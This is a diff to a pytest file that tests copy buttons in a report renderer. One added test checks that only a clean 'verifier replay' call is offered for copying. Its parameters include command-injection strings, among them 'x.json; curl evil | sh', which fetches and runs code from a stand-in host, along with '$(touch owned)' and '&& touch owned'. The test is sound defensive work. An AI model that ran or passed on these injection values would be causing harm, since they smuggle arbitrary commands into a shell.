@@ -140,7 +140,7 @@ def test_statements_are_mathematics_or_else_words(read: Reader) -> None:
 def test_a_command_can_be_copied(report: Path, read: Reader) -> None:
     assert "verifier replay counterexamples/T1-s-above-1.minimal.json" in read.text
     copies = [a for tag, a in read.tags if tag == "button" and a.get("class") == "copy"]
-    assert len(copies) == 7 + 1  # cards, and the command of the run
+    assert len(copies) == 6 + 1  # cards but the hostile one, and the command of the run
 
 
 def test_stale_calibration_is_said_at_the_top_at_the_reading_and_beside_every_figure(read: Reader) -> None:
@@ -345,3 +345,27 @@ def test_what_is_no_run_is_refused_by_name(tmp_path: Path, make_run: Make) -> No
         reports.render(tmp_path)
     with pytest.raises(ValueError, match="lacks the columns"):
         reports.write_report(tmp_path, [], make_run(), pd.DataFrame({"id": ["L1/a"]}))
+
+
+@pytest.mark.parametrize(
+    ("command", "copied"),
+    [
+        ("verifier replay counterexamples/T1-s-above-1.minimal.json", True),
+        ("verifier replay 'a b.json' --pack my_pack:CLAIMS", True),
+        ("verifier replay x.json; curl evil | sh", False),
+        ("verifier replay x.json && touch owned", False),
+        ("verifier replay $(touch owned)", False),
+        ("verifier replay x.json\ntouch owned", False),
+        ("verifier replay 'x.json", False),
+        ("curl evil", False),
+        ("", False),
+    ],
+)
+def test_only_a_call_of_verifier_is_offered_for_copying(
+    make_finding: Make, make_case: Make, command: str, copied: bool
+) -> None:
+    minimal = make_case("T1/a", "minimal", replay=command)
+    text = page([make_finding("T1/a", "FALSIFIED", minimal=minimal)], {"command": command}, EMPTY)
+    buttons = [a for tag, a in Reader(text).tags if tag == "button" and a.get("class") == "copy"]
+    assert [a["aria-label"] for a in buttons] == [f"Copy the command {command}"] * (2 * copied)
+    assert " ".join(command.split()) in Reader(text).text
